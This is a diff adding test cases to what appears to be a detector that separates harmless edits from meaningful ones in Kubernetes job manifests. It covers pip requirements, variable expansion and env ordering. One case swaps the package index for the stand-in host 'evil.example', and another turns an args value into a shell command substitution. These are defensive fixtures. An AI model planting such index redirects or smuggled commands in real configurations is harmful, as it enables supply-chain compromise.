@@ -119,6 +119,43 @@ def container_program(m: Manifest) -> None:
     }
 
 
+def container_env_program(program: str) -> Edit:
+    """The main template as a container running ``program`` with ``bash -c``, TASK_ID=42 in its env."""
+
+    def edit(m: Manifest) -> None:
+        main(m).pop("script")
+        main(m)["container"] = {
+            "image": "python:3.11-slim",
+            "command": ["bash", "-c"],
+            "args": [program],
+            "env": [{"name": "TASK_ID", "value": "42"}],
+        }
+
+    return edit
+
+
+def set_args(program: str) -> Edit:
+    return lambda m: main(m)["container"].update(args=[program])
+
+
+def add_env(name: str, value: str, at: int | None = None) -> Edit:
+    def edit(m: Manifest) -> None:
+        items = script(m)["env"]
+        items.insert(len(items) if at is None else at, {"name": name, "value": value})
+
+    return edit
+
+
+def move_env(name: str, to: int) -> Edit:
+    def edit(m: Manifest) -> None:
+        items = script(m)["env"]
+        item = next(e for e in items if e["name"] == name)
+        items.remove(item)
+        items.insert(to, item)
+
+    return edit
+
+
 def resource_template(m: Manifest) -> None:
     main(m).pop("script")
     main(m)["resource"] = {
@@ -425,6 +462,63 @@ CASES = [
         real=lambda m: main(m)["container"].update(
             args=["set -e; pip install six; python -c 'import six; print(six.__version__)'"]
         ),
+    ),
+    Case(
+        "argv-code-pip-requirements",
+        "job.yaml",
+        setup=container_program,
+        form=lambda m: main(m)["container"].update(
+            args=["set -e\npip install --no-cache-dir 'Six'  &&  python -c 'import six; print(six.__version__)'"]
+        ),
+        real=lambda m: main(m)["container"].update(
+            args=["set -e; pip install six==1.16 && python -c 'import six; print(six.__version__)'"]
+        ),
+        caught_by="pip-requirements",  # the same refinement as in a script's source
+        real_path="spec.templates[main].container.args[0]",
+    ),
+    Case(
+        "pip-requirements-file-options",
+        "job.yaml",
+        setup=replace_source("six==1.16.0\n", "--index-url https://pypi.example/simple\nsix==1.16.0\n"),
+        form=replace_source("--index-url https://pypi.example/simple\n", "-i  https://pypi.example/simple  # mirror\n"),
+        real=replace_source("--index-url https://pypi.example/simple\n", "--index-url https://evil.example/simple\n"),
+        caught_by="pip-requirements",
+    ),
+    # Kubernetes expands $(VAR) and $$ in env values, command and args before the process starts
+    Case(
+        "kubernetes-var-expansion",
+        "job.yaml",
+        setup=add_env("PRICE", "cost $5"),
+        form=lambda m: env(m, "PRICE").update(value="cost $$5"),
+        real=lambda m: env(m, "PRICE").update(value="cost $$$5"),  # reaches the pod as "cost $$5"
+        real_path="spec.templates[main].script.env[PRICE].value",
+    ),
+    Case(
+        "kubernetes-var-expansion-env-order",
+        "job.yaml",
+        setup=add_env("LABEL", "task-$(TASK_ID)"),
+        form=_do(move_env("PYTHON_CODE", 3), move_env("API_TOKEN", 0)),  # TASK_ID stays before LABEL
+        real=move_env("LABEL", 0),  # now before TASK_ID: "$(TASK_ID)" stays as written
+        caught_by="kubernetes-var-expansion",
+        real_path="spec.templates[main].script.env[LABEL].value",
+    ),
+    Case(
+        "kubernetes-var-expansion-args",
+        "job.yaml",
+        setup=container_env_program("set -e; echo task 42 && pip install six"),
+        form=set_args("set -e; echo task $(TASK_ID) && pip install six"),
+        real=set_args("set -e; echo task $$(TASK_ID) && pip install six"),  # a command substitution
+        caught_by="argv-code",
+        real_path="spec.templates[main].container.args[0]",
+    ),
+    Case(
+        "kubernetes-var-expansion-python-code-in-env",
+        "job.yaml",
+        setup=lambda m: env(m, "PYTHON_CODE").update(value="print('$')\n"),
+        form=lambda m: env(m, "PYTHON_CODE").update(value="print('$$')\n"),
+        real=lambda m: env(m, "PYTHON_CODE").update(value="print('$$$$')\n"),
+        caught_by="python-code-in-env",
+        real_path="spec.templates[main].script.env[PYTHON_CODE].value",
     ),
     Case(
         "embedded-document",
